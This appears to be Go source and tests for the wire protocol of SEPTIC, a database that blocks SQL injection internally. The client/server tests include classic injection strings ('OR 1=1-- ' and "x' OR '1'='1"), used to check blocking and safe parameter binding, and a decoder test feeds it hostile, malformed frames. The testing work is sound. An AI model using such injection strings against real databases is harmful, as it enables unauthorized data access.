// FromWire converts back to an engine value.
func FromWire(w WireValue) engine.Value {
	return engine.Value{Kind: engine.Kind(w.Kind), I: w.I, F: w.F, S: w.S, B: w.B}
}

// poolableCap bounds what the frame pools retain: a burst of giant
// result sets must not pin megabytes of buffer forever.
const poolableCap = 64 << 10

// frameEncoder is a pooled JSON frame writer: the length header and the
// marshalled payload are built in one reusable buffer and written with
// a single Write call (one syscall per frame instead of two).
type frameEncoder struct {
	buf bytes.Buffer
	enc *json.Encoder
}

var encoderPool = sync.Pool{New: func() any {
	e := &frameEncoder{}
	e.enc = json.NewEncoder(&e.buf)
	return e
}}

// writeFrame sends one length-prefixed JSON message.
func writeFrame(w io.Writer, msg any) error {
	e := encoderPool.Get().(*frameEncoder)
	e.buf.Reset()
	e.buf.Write([]byte{0, 0, 0, 0}) // length header placeholder
	if err := e.enc.Encode(msg); err != nil {
		encoderPool.Put(e)
		return fmt.Errorf("encode frame: %w", err)
	}
	frame := e.buf.Bytes()
	n := len(frame) - 4 // payload includes Encode's trailing newline; Unmarshal permits it
	if n > maxFrame {
		encoderPool.Put(e)
		return fmt.Errorf("frame of %d bytes exceeds limit", n)
	}
	binary.BigEndian.PutUint32(frame[:4], uint32(n))
	_, err := w.Write(frame)
	if e.buf.Cap() <= poolableCap {
		encoderPool.Put(e)
	}
	if err != nil {
		return fmt.Errorf("write frame: %w", err)
	}
	return nil
}

// payloadPool recycles frame payload read buffers on both the client
// and server side of the JSON path (and the binary reader's scratch).
var payloadPool = sync.Pool{New: func() any {
	b := make([]byte, 0, 4096)
	return &b
}}

func getPayloadBuf(n uint32) *[]byte {
	pb := payloadPool.Get().(*[]byte)
	if uint32(cap(*pb)) < n {
		*pb = make([]byte, 0, n)
	}
	return pb
}

func putPayloadBuf(pb *[]byte) {
	if cap(*pb) <= poolableCap {
		payloadPool.Put(pb)
	}
}

// WriteJSONFrame sends one length-prefixed JSON message. Exported for
// internal/repl, whose handshake is the same JSON HELLO exchange the
// query protocol uses — sharing the encoder keeps the two framings
// byte-identical by construction.
func WriteJSONFrame(w io.Writer, msg any) error { return writeFrame(w, msg) }

// ReadJSONFrame receives one length-prefixed JSON message into msg.
// Exported for internal/repl (see WriteJSONFrame).
func ReadJSONFrame(r io.Reader, msg any) error { return readFrame(r, msg) }

// readFrame receives one length-prefixed JSON message into msg.
func readFrame(r io.Reader, msg any) error {
	n, err := readFrameHeader(r)
	if err != nil {
		return err
	}
	return readFramePayload(r, n, msg)
}

// readFrameHeader reads and bounds-checks the length prefix. It is
// split from the payload read so the server can apply separate idle
// (waiting for a request to start) and read (receiving the rest of the
// frame) deadlines.
func readFrameHeader(r io.Reader) (uint32, error) {
	var header [4]byte
	if _, err := io.ReadFull(r, header[:]); err != nil {
		return 0, err // io.EOF passes through for clean shutdown detection
	}
	n := binary.BigEndian.Uint32(header[:])
	if n > maxFrame {
		return 0, fmt.Errorf("frame of %d bytes exceeds limit", n)
	}
	return n, nil
}

// readFramePayload reads the n-byte payload into a pooled buffer and
// decodes it into msg. json.Unmarshal copies everything it keeps, so
// the buffer is recycled immediately.
func readFramePayload(r io.Reader, n uint32, msg any) error {
	pb := getPayloadBuf(n)
	payload := (*pb)[:n]
	if _, err := io.ReadFull(r, payload); err != nil {
		putPayloadBuf(pb)
		return fmt.Errorf("read frame payload: %w", err)
	}
	err := json.Unmarshal(payload, msg)
	putPayloadBuf(pb)
	if err != nil {
		return fmt.Errorf("decode frame: %w", err)
	}
	return nil
}
