// Package wire implements the client/server protocol of the DBMS: a
// synchronous, length-prefixed JSON protocol over TCP standing in for the
// MySQL wire protocol.
//
// The protocol exists to demonstrate two SEPTIC features from §II-B:
// "no client configuration" — clients connect exactly as they would to an
// unprotected server, because SEPTIC lives inside the DBMS — and "client
// diversity" — several clients of different kinds may be connected to a
// single protected server.
package wire

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"

	"github.com/septic-db/septic/internal/engine"
)

// maxFrame bounds a single protocol frame (16 MiB, like MySQL's default
// max_allowed_packet).
const maxFrame = 16 << 20

// HelloVersion is the protocol version of the HELLO handshake this
// build speaks. Version 1 adds the application declaration that binds a
// connection to a protection domain.
const HelloVersion = 1

// Hello is the optional session handshake: the first frame a
// domain-aware client sends. It declares the client's protocol version
// and the application it acts for; the server binds the connection to
// the application's protection domain and every later query on the
// connection is routed there. Clients predating the handshake simply
// never send one — their queries carry no app binding and land in the
// default domain, so old clients keep working against new servers
// without any configuration ("no client configuration", §II-B).
type Hello struct {
	// Version is the client's HelloVersion. A server refuses versions
	// newer than its own (the client must downgrade), and accepts older
	// ones.
	Version int `json:"v"`
	// App is the application name to bind the session to; empty binds to
	// the default domain.
	App string `json:"app,omitempty"`
}

// HelloAck is the server's handshake reply.
type HelloAck struct {
	// Version is the server's HelloVersion.
	Version int `json:"v"`
	// Domain is the protection domain the session was bound to —
	// "default" when the declared app is unknown or empty.
	Domain string `json:"domain,omitempty"`
}

// Request is one client->server message. A frame with Hello set is a
// handshake, not a query: Query and Args are ignored and the response
// carries the HelloAck.
type Request struct {
	// Query is the SQL text.
	Query string `json:"query"`
	// Args, when non-empty, bind '?' placeholders server-side
	// (prepared-statement style execution).
	Args []WireValue `json:"args,omitempty"`
	// Hello, when set, makes this frame a session handshake.
	Hello *Hello `json:"hello,omitempty"`
}

// Response is one server->client message.
type Response struct {
	Columns      []string      `json:"columns,omitempty"`
	Rows         [][]WireValue `json:"rows,omitempty"`
	Affected     int64         `json:"affected,omitempty"`
	LastInsertID int64         `json:"last_insert_id,omitempty"`
	// Error is the failure message, empty on success.
	Error string `json:"error,omitempty"`
	// Blocked reports that SEPTIC dropped the query.
	Blocked bool `json:"blocked,omitempty"`
	// Busy reports that the server refused the connection at admission
	// (max-conns reached and the accept backlog full or timed out).
	Busy bool `json:"busy,omitempty"`
	// Hello is the handshake acknowledgement, set only when the request
	// was a Hello frame.
	Hello *HelloAck `json:"hello,omitempty"`
}

// WireValue is the serialized form of engine.Value.
type WireValue struct {
	Kind int     `json:"k"`
	I    int64   `json:"i,omitempty"`
	F    float64 `json:"f,omitempty"`
	S    string  `json:"s,omitempty"`
	B    bool    `json:"b,omitempty"`
}

// ToWire converts an engine value.
func ToWire(v engine.Value) WireValue {
	return WireValue{Kind: int(v.Kind), I: v.I, F: v.F, S: v.S, B: v.B}
}

// FromWire converts back to an engine value.
func FromWire(w WireValue) engine.Value {
	return engine.Value{Kind: engine.Kind(w.Kind), I: w.I, F: w.F, S: w.S, B: w.B}
}

// writeFrame sends one length-prefixed JSON message.
func writeFrame(w io.Writer, msg any) error {
	payload, err := json.Marshal(msg)
	if err != nil {
		return fmt.Errorf("encode frame: %w", err)
	}
	if len(payload) > maxFrame {
		return fmt.Errorf("frame of %d bytes exceeds limit", len(payload))
	}
	var header [4]byte
	binary.BigEndian.PutUint32(header[:], uint32(len(payload)))
	if _, err := w.Write(header[:]); err != nil {
		return fmt.Errorf("write frame header: %w", err)
	}
	if _, err := w.Write(payload); err != nil {
		return fmt.Errorf("write frame payload: %w", err)
	}
	return nil
}

// readFrame receives one length-prefixed JSON message into msg.
func readFrame(r io.Reader, msg any) error {
	n, err := readFrameHeader(r)
	if err != nil {
		return err
	}
	return readFramePayload(r, n, msg)
}

// readFrameHeader reads and bounds-checks the length prefix. It is
// split from the payload read so the server can apply separate idle
// (waiting for a request to start) and read (receiving the rest of the
// frame) deadlines.
func readFrameHeader(r io.Reader) (uint32, error) {
	var header [4]byte
	if _, err := io.ReadFull(r, header[:]); err != nil {
		return 0, err // io.EOF passes through for clean shutdown detection
	}
	n := binary.BigEndian.Uint32(header[:])
	if n > maxFrame {
		return 0, fmt.Errorf("frame of %d bytes exceeds limit", n)
	}
	return n, nil
}

// readFramePayload reads the n-byte payload and decodes it into msg.
func readFramePayload(r io.Reader, n uint32, msg any) error {
	payload := make([]byte, n)
	if _, err := io.ReadFull(r, payload); err != nil {
		return fmt.Errorf("read frame payload: %w", err)
	}
	if err := json.Unmarshal(payload, msg); err != nil {
		return fmt.Errorf("decode frame: %w", err)
	}
	return nil
}
