package wire

import (
	"bytes"
	"encoding/binary"
	"math"
	"reflect"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

const (
	kInt    = int(engine.KindInt)
	kFloat  = int(engine.KindFloat)
	kString = int(engine.KindString)
	kBool   = int(engine.KindBool)
	kNull   = int(engine.KindNull)
)

// sampleRequest exercises every value kind.
func sampleRequest() *Request {
	return &Request{
		Query: "SELECT id, name FROM t WHERE id = ? AND w > ? AND ok = ? AND note = ? AND x IS ?",
		Args: []WireValue{
			{Kind: kInt, I: -42},
			{Kind: kFloat, F: math.Pi},
			{Kind: kBool, B: true},
			{Kind: kString, S: "O'Reilly — naïve\x00bytes"},
			{Kind: kNull},
		},
	}
}

func sampleResponse() *Response {
	return &Response{
		Columns: []string{"id", "name"},
		Rows: [][]WireValue{
			{{Kind: kInt, I: 1}, {Kind: kString, S: "ann"}},
			{{Kind: kInt, I: 2}, {Kind: kNull}},
		},
		Affected:     -7,
		LastInsertID: 99,
		Error:        "",
	}
}

func TestBinaryRequestRoundTrip(t *testing.T) {
	want := sampleRequest()
	frame, err := appendRequestFrame(nil, 12345, want)
	if err != nil {
		t.Fatal(err)
	}
	buf := &encBuf{}
	seq, typ, body, err := readBinaryFrame(bytes.NewReader(frame), buf)
	if err != nil {
		t.Fatal(err)
	}
	if seq != 12345 || typ != frameQuery {
		t.Fatalf("seq=%d typ=%#x", seq, typ)
	}
	var got Request
	if err := decodeRequestBody(body, &got); err != nil {
		t.Fatal(err)
	}
	if got.Query != want.Query || !reflect.DeepEqual(got.Args, want.Args) {
		t.Fatalf("round trip mismatch:\n got %+v\nwant %+v", got, *want)
	}
}

func TestBinaryResponseRoundTrip(t *testing.T) {
	cases := []*Response{
		sampleResponse(),
		{Error: "boom", Blocked: true},
		{Busy: true, Error: "server busy"},
		{Busy: true, Error: "server busy", RetryAfterMS: 250},
		{Shed: true, Error: "server overloaded", RetryAfterMS: 17},
		{Shed: true, Error: "quota exceeded"}, // shed without a hint
		{}, // empty success
	}
	for i, want := range cases {
		frame, err := appendResponseFrame(nil, uint64(i)+7, want)
		if err != nil {
			t.Fatal(err)
		}
		buf := &encBuf{}
		seq, typ, body, err := readBinaryFrame(bytes.NewReader(frame), buf)
		if err != nil {
			t.Fatalf("case %d: %v", i, err)
		}
		if seq != uint64(i)+7 || typ != frameResult {
			t.Fatalf("case %d: seq=%d typ=%#x", i, seq, typ)
		}
		var got Response
		if err := decodeResponseBody(body, &got); err != nil {
			t.Fatalf("case %d: %v", i, err)
		}
		if got.Blocked != want.Blocked || got.Busy != want.Busy || got.Error != want.Error ||
			got.Shed != want.Shed || got.RetryAfterMS != want.RetryAfterMS ||
			got.Affected != want.Affected || got.LastInsertID != want.LastInsertID ||
			len(got.Columns) != len(want.Columns) || len(got.Rows) != len(want.Rows) {
			t.Fatalf("case %d mismatch:\n got %+v\nwant %+v", i, got, *want)
		}
		for j := range want.Rows {
			if !reflect.DeepEqual(got.Rows[j], want.Rows[j]) {
				t.Fatalf("case %d row %d: got %+v want %+v", i, j, got.Rows[j], want.Rows[j])
			}
		}
	}
}

// TestDecoderRejectsHostileBodies holds the decoders to their contract:
// truncated, lying, or trailing-garbage bodies return an error — never
// a panic, never a giant allocation.
func TestDecoderRejectsHostileBodies(t *testing.T) {
	reqFrame, _ := appendRequestFrame(nil, 1, sampleRequest())
	respFrame, _ := appendResponseFrame(nil, 1, sampleResponse())
	reqBody := reqFrame[4+v2FrameOverhead:]
	respBody := respFrame[4+v2FrameOverhead:]

	// Every strict prefix of a valid body must decode cleanly or error —
	// prefixes that happen to be self-delimiting are fine, panics are not.
	for n := 0; n < len(reqBody); n++ {
		var req Request
		_ = decodeRequestBody(reqBody[:n], &req) // must not panic
	}
	for n := 0; n < len(respBody); n++ {
		var resp Response
		_ = decodeResponseBody(respBody[:n], &resp)
	}

	// A count that promises more elements than bytes remain must be
	// rejected before allocation.
	lie := binary.AppendUvarint(appendString(nil, "SELECT 1"), 1<<40)
	var req Request
	if err := decodeRequestBody(lie, &req); err == nil {
		t.Fatal("lying arg count accepted")
	}
	// Unknown value kind.
	bad := appendString(nil, "q")
	bad = binary.AppendUvarint(bad, 1) // argc = 1
	bad = append(bad, 0xEE)            // unknown kind
	if err := decodeRequestBody(bad, &req); err == nil {
		t.Fatal("unknown value kind accepted")
	}
	// Trailing bytes after a complete body.
	trailing := append(append([]byte{}, reqBody...), 0x00)
	if err := decodeRequestBody(trailing, &req); err == nil {
		t.Fatal("trailing bytes accepted")
	}
	var resp Response
	trailingResp := append(append([]byte{}, respBody...), 0x01)
	if err := decodeResponseBody(trailingResp, &resp); err == nil {
		t.Fatal("trailing bytes accepted in response")
	}
}

func TestReadBinaryFrameRejectsShortAndOversized(t *testing.T) {
	// Payload length below the fixed seq+type overhead.
	short := []byte{0, 0, 0, 4, 1, 2, 3, 4}
	if _, _, _, err := readBinaryFrame(bytes.NewReader(short), &encBuf{}); err == nil {
		t.Fatal("undersized frame accepted")
	}
	// Length header beyond maxFrame.
	huge := []byte{0xFF, 0xFF, 0xFF, 0xFF, 0, 0}
	if _, _, _, err := readBinaryFrame(bytes.NewReader(huge), &encBuf{}); err == nil {
		t.Fatal("oversized frame accepted")
	}
	// Torn frame: header promises more than arrives.
	torn, _ := appendRequestFrame(nil, 9, sampleRequest())
	if _, _, _, err := readBinaryFrame(bytes.NewReader(torn[:len(torn)-3]), &encBuf{}); err == nil {
		t.Fatal("torn frame accepted")
	}
	// Encoder refuses to build a frame over the limit.
	big := &Request{Query: string(make([]byte, maxFrame+1))}
	if _, err := appendRequestFrame(nil, 1, big); err == nil {
		t.Fatal("over-limit frame encoded")
	}
}

// TestCodecSteadyStateAllocs pins the pooled codec's hot path: with a
// reused buffer, encoding a request and decoding it back must not
// allocate beyond the decoded strings themselves.
func TestCodecSteadyStateAllocs(t *testing.T) {
	req := sampleRequest()
	buf := &encBuf{}
	var scratch Request
	allocs := testing.AllocsPerRun(200, func() {
		frame, err := appendRequestFrame(buf.b[:0], 7, req)
		if err != nil {
			t.Fatal(err)
		}
		buf.b = frame
		scratch.reset()
		if err := decodeRequestBody(frame[4+v2FrameOverhead:], &scratch); err != nil {
			t.Fatal(err)
		}
	})
	// One alloc per string arg + the query string; everything else (frame
	// buffer, args slice) is reused. Generous ceiling: 6.
	if allocs > 6 {
		t.Fatalf("encode+decode steady state allocates %.1f/op, ceiling 6", allocs)
	}
}
