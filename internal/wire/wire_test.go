package wire

import (
	"errors"
	"fmt"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
)

// startServer boots a protected server on an ephemeral port and returns
// its address plus the guard for assertions.
func startServer(t *testing.T, cfg core.Config) (string, *core.Septic, *engine.DB) {
	t.Helper()
	guard := core.New(cfg)
	db := engine.New(engine.WithQueryHook(guard))
	srv := NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return addr, guard, db
}

func dial(t *testing.T, addr string) *Client {
	t.Helper()
	c, err := Dial(addr)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	t.Cleanup(func() { _ = c.Close() })
	return c
}

func TestClientServerRoundTrip(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr)

	if _, err := c.Exec("CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	res, err := c.Exec("INSERT INTO t (name) VALUES ('ann'), ('bob')")
	if err != nil {
		t.Fatal(err)
	}
	if res.Affected != 2 || res.LastInsertID != 2 {
		t.Errorf("insert result = %+v", res)
	}
	res, err = c.Exec("SELECT id, name FROM t ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 || res.Rows[0][1].S != "ann" {
		t.Errorf("rows = %v", res.Rows)
	}
	if res.Columns[0] != "id" || res.Columns[1] != "name" {
		t.Errorf("columns = %v", res.Columns)
	}
}

func TestClientReceivesErrors(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr)
	_, err := c.Exec("SELECT * FROM missing")
	if err == nil {
		t.Fatal("want error for missing table")
	}
}

func TestBlockedQueryReportedAcrossWire(t *testing.T) {
	addr, guard, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr)
	if _, err := c.Exec("CREATE TABLE t (id INT, s TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec("SELECT s FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true})

	_, err := c.Exec("SELECT s FROM t WHERE id = 1 OR 1=1-- ")
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked across the wire", err)
	}
}

func TestExecArgsOverWire(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr)
	if _, err := c.Exec("CREATE TABLE t (id INT, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecArgs("INSERT INTO t (id, name) VALUES (?, ?)",
		engine.Int(1), engine.Str("x' OR '1'='1")); err != nil {
		t.Fatal(err)
	}
	res, err := c.ExecArgs("SELECT name FROM t WHERE id = ?", engine.Int(1))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0].S != "x' OR '1'='1" {
		t.Errorf("rows = %v", res.Rows)
	}
}

// TestClientDiversity is the paper's feature: several concurrent clients
// against one protected server, no client-side configuration.
func TestClientDiversity(t *testing.T) {
	addr, guard, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	setup := dial(t, addr)
	if _, err := setup.Exec("CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, n INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := setup.Exec("INSERT INTO t (n) VALUES (0)"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true, IncrementalLearning: true})

	const clients = 6
	var wg sync.WaitGroup
	errs := make(chan error, clients*10)
	for i := 0; i < clients; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			c, err := Dial(addr)
			if err != nil {
				errs <- err
				return
			}
			defer c.Close()
			for j := 0; j < 10; j++ {
				if _, err := c.Exec(fmt.Sprintf("INSERT INTO t (n) VALUES (%d)", n*100+j)); err != nil {
					errs <- err
					return
				}
			}
		}(i)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Errorf("client error: %v", err)
	}
	res, err := setup.Exec("SELECT COUNT(*) FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0].I != 1+clients*10 {
		t.Errorf("count = %v, want %d", res.Rows[0][0], 1+clients*10)
	}
}

func TestServerCloseIdempotent(t *testing.T) {
	db := engine.New()
	srv := NewServer(db)
	if _, err := srv.Listen("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestClientClosedExec(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr)
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec("SELECT 1"); err == nil {
		t.Error("exec on closed client must fail")
	}
}

func TestWireValueRoundTrip(t *testing.T) {
	values := []engine.Value{
		engine.Int(-42),
		engine.Float(2.5),
		engine.Str("héllo ' world"),
		engine.Bool(true),
		engine.Null(),
	}
	for _, v := range values {
		got := FromWire(ToWire(v))
		if got.Kind != v.Kind || got.String() != v.String() {
			t.Errorf("round trip %v -> %v", v, got)
		}
	}
}
