package wire

import (
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"runtime/debug"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
)

// ErrServerBusy is the admission-control refusal: the server is at its
// connection limit and the accept backlog is full (or the wait timed
// out). Clients see it from Exec on a refused connection.
var ErrServerBusy = errors.New("server busy: connection limit reached")

// Server serves the wire protocol for one database instance. SEPTIC, if
// installed, is already inside the engine — the server is protection-
// agnostic, exactly like a stock MySQL front end.
//
// The zero configuration (NewServer(db) with no options) behaves like a
// lab server: no deadlines, no limits. Production deployments layer on
// the fail-safe options: per-connection idle/read/write deadlines, a
// per-query execution timeout, a max-connections admission gate with a
// bounded backlog, and graceful drain via Shutdown. Every query is
// panic-contained — a crash in the engine or a hook that escapes the
// guard's own containment is converted into an error response for that
// query, never a server crash.
type Server struct {
	db *engine.DB

	// resolveDomain maps a HELLO-declared app name to the protection
	// domain the session will be reported as bound to (the HelloAck);
	// nil uses defaultDomainResolver. The mapping is informational for
	// the client — routing itself happens inside the guard.
	resolveDomain func(app string) string

	idleTimeout  time.Duration
	readTimeout  time.Duration
	writeTimeout time.Duration
	queryTimeout time.Duration
	maxConns     int
	backlog      int
	backlogWait  time.Duration

	// sem holds one token per admitted connection; nil = unlimited.
	sem     chan struct{}
	waiters atomic.Int64

	// done is closed once, when Close/Shutdown begins, releasing
	// admission waiters immediately.
	done chan struct{}
	// draining makes serving loops stop picking up new requests.
	draining atomic.Bool

	panics  atomic.Int64
	refused atomic.Int64

	// obsHub enables front-end instrumentation (nil = off). The two hot
	// counter handles are resolved once in NewServer; they are nil-safe,
	// so the serving loops call them unconditionally.
	obsHub     *obs.Hub
	obsConns   *obs.Counter // connections accepted
	obsQueries *obs.Counter // requests answered

	mu       sync.Mutex
	listener net.Listener
	conns    map[net.Conn]struct{}
	closed   bool
	wg       sync.WaitGroup
}

// ServerOption configures a Server at construction time.
type ServerOption func(*Server)

// WithIdleTimeout disconnects a session that sends no request for d: a
// client holding a connection open but sending nothing (slow-loris
// style) is cut loose instead of pinning a goroutine and an admission
// slot forever. Zero disables the timeout.
func WithIdleTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.idleTimeout = d }
}

// WithReadTimeout bounds receiving the remainder of a request frame
// once its header has arrived. It is the torn-frame guard: a client
// that starts a frame and stalls is disconnected after d rather than
// holding the session half-read. Zero leaves the idle deadline (if any)
// in force for the whole frame.
func WithReadTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.readTimeout = d }
}

// WithWriteTimeout bounds each response write; a client that stops
// draining its receive window cannot wedge the serving goroutine.
func WithWriteTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.writeTimeout = d }
}

// WithQueryTimeout bounds one query's execution. The deadline is
// enforced cooperatively — the engine checks cancellation between
// pipeline stages — with a watchdog response: if the query overruns, the
// client immediately receives a timeout error and the overrunning
// execution is abandoned to finish (and be discarded) on its own. Zero
// disables the timeout and the per-query watchdog goroutine entirely.
func WithQueryTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.queryTimeout = d }
}

// WithMaxConns caps concurrently served connections at n (0 =
// unlimited). Connections beyond the cap wait in a bounded backlog (see
// WithAcceptBacklog); beyond that they are refused with a clean
// "server busy" wire error instead of queueing unboundedly.
func WithMaxConns(n int) ServerOption {
	return func(s *Server) { s.maxConns = n }
}

// WithAcceptBacklog sets how many over-limit connections may wait for a
// serving slot (n) and for how long (wait) before being refused. The
// defaults with a max-conns gate are n = max-conns and wait = 1s.
func WithAcceptBacklog(n int, wait time.Duration) ServerOption {
	return func(s *Server) { s.backlog = n; s.backlogWait = wait }
}

// WithDomainResolver installs the app→domain mapping the server answers
// HELLO handshakes with: given the declared application name, it
// returns the protection domain name the session is bound to. septicd
// wires this to the guard's domain registry so the acknowledgement
// reflects reality (an unknown app resolves to "default"). Without a
// resolver the server echoes the declared app as the domain, or
// "default" when none was declared.
func WithDomainResolver(resolve func(app string) string) ServerOption {
	return func(s *Server) { s.resolveDomain = resolve }
}

// defaultDomainResolver is the no-registry fallback.
func defaultDomainResolver(app string) string {
	if app == "" {
		return "default"
	}
	return app
}

// WithServerObs installs an observability hub on the front end:
// accepted-connection and answered-request counters, plus gauges for
// tracked sessions, admission backlog occupancy, refusals, contained
// panics and drain state.
func WithServerObs(h *obs.Hub) ServerOption {
	return func(s *Server) { s.obsHub = h }
}

// NewServer wraps a database in a protocol server.
func NewServer(db *engine.DB, opts ...ServerOption) *Server {
	s := &Server{
		db:          db,
		conns:       make(map[net.Conn]struct{}),
		done:        make(chan struct{}),
		backlog:     -1, // "unset": defaulted from maxConns below
		backlogWait: time.Second,
	}
	for _, o := range opts {
		o(s)
	}
	if s.resolveDomain == nil {
		s.resolveDomain = defaultDomainResolver
	}
	if s.maxConns > 0 {
		s.sem = make(chan struct{}, s.maxConns)
		if s.backlog < 0 {
			s.backlog = s.maxConns
		}
	}
	if s.obsHub != nil {
		m := s.obsHub.Metrics
		s.obsConns = m.Counter("wire.conns.accepted")
		s.obsQueries = m.Counter("wire.queries.answered")
		m.GaugeFunc("wire.conns.tracked", func() int64 {
			s.mu.Lock()
			defer s.mu.Unlock()
			return int64(len(s.conns))
		})
		m.GaugeFunc("wire.backlog.waiters", s.waiters.Load)
		m.GaugeFunc("wire.conns.refused", s.refused.Load)
		m.GaugeFunc("wire.panics", s.panics.Load)
		m.GaugeFunc("wire.draining", func() int64 {
			if s.draining.Load() {
				return 1
			}
			return 0
		})
	}
	return s
}

// Listen binds addr ("127.0.0.1:0" for an ephemeral test port) and
// starts accepting connections in a background goroutine. It returns the
// bound address.
func (s *Server) Listen(addr string) (string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", fmt.Errorf("listen %s: %w", addr, err)
	}
	if err := s.Serve(ln); err != nil {
		_ = ln.Close()
		return "", err
	}
	return ln.Addr().String(), nil
}

// Serve accepts connections from ln in a background goroutine. Tests
// and chaos harnesses use it to serve through an instrumented listener.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return errors.New("server already closed")
	}
	s.listener = ln
	s.mu.Unlock()

	s.wg.Add(1)
	go s.acceptLoop(ln)
	return nil
}

// acceptLoop accepts until the listener is closed. A transient accept
// failure (ECONNABORTED, EMFILE under fd pressure, an injected fault)
// is retried with capped exponential backoff instead of killing the
// server; only net.ErrClosed — shutdown — ends the loop.
func (s *Server) acceptLoop(ln net.Listener) {
	defer s.wg.Done()
	var backoff time.Duration
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) || s.isClosed() {
				return
			}
			if backoff == 0 {
				backoff = 5 * time.Millisecond
			} else if backoff *= 2; backoff > time.Second {
				backoff = time.Second
			}
			select {
			case <-time.After(backoff):
			case <-s.done:
				return
			}
			continue
		}
		backoff = 0
		s.obsConns.Inc()
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			_ = conn.Close()
			return
		}
		s.conns[conn] = struct{}{}
		s.wg.Add(1)
		s.mu.Unlock()

		go func() {
			defer s.wg.Done()
			s.admitAndServe(conn)
		}()
	}
}

// admitAndServe passes the connection through the admission gate, then
// serves it. Refused connections receive one "server busy" response
// frame so the client fails cleanly instead of seeing a bare hangup.
func (s *Server) admitAndServe(conn net.Conn) {
	defer s.forget(conn)
	if s.sem != nil {
		select {
		case s.sem <- struct{}{}:
		default:
			// No free slot: join the bounded backlog or be refused.
			if int(s.waiters.Add(1)) > s.backlog {
				s.waiters.Add(-1)
				s.refuse(conn)
				return
			}
			timer := time.NewTimer(s.backlogWait)
			select {
			case s.sem <- struct{}{}:
				timer.Stop()
				s.waiters.Add(-1)
			case <-timer.C:
				s.waiters.Add(-1)
				s.refuse(conn)
				return
			case <-s.done:
				timer.Stop()
				s.waiters.Add(-1)
				return
			}
		}
		defer func() { <-s.sem }()
	}
	s.serveConn(conn)
}

// refuse answers one admission rejection and hangs up.
func (s *Server) refuse(conn net.Conn) {
	s.refused.Add(1)
	_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
	_ = writeFrame(conn, &Response{Error: ErrServerBusy.Error(), Busy: true})
}

// serveConn handles one client session: a synchronous request/response
// loop until the client disconnects, a deadline fires, or the server
// drains. The session's domain binding (HELLO handshake) is plain
// per-goroutine state: app is empty until a Hello frame binds it.
func (s *Server) serveConn(conn net.Conn) {
	var app string
	for {
		var req Request
		if err := s.readRequest(conn, &req); err != nil {
			return // EOF, deadline or protocol error: drop the session
		}
		var resp *Response
		if req.Hello != nil {
			resp = s.handleHello(req.Hello, &app)
		} else {
			resp = s.dispatch(&req, app)
		}
		if s.writeTimeout > 0 {
			_ = conn.SetWriteDeadline(time.Now().Add(s.writeTimeout))
		}
		if err := writeFrame(conn, resp); err != nil {
			return
		}
		s.obsQueries.Inc()
		if s.draining.Load() {
			return // drain: the in-flight query was answered; end the session
		}
	}
}

// readRequest receives one request under the idle (until the frame
// starts) and read (until it completes) deadlines.
func (s *Server) readRequest(conn net.Conn, req *Request) error {
	if s.draining.Load() {
		return net.ErrClosed
	}
	if s.idleTimeout > 0 {
		_ = conn.SetReadDeadline(time.Now().Add(s.idleTimeout))
	}
	n, err := readFrameHeader(conn)
	if err != nil {
		return err
	}
	if s.readTimeout > 0 {
		_ = conn.SetReadDeadline(time.Now().Add(s.readTimeout))
	}
	return readFramePayload(conn, n, req)
}

// dispatch runs one request, enforcing the query timeout when one is
// configured. The watchdog pattern: the query runs in a goroutine; if
// its context deadline fires first, the client gets an immediate
// timeout error and the overrun execution — which the engine's
// between-stage cancellation checks will abort at its next stage
// boundary — finishes in the background and is discarded. Shutdown's
// WaitGroup tracks the stray so drain still accounts for it.
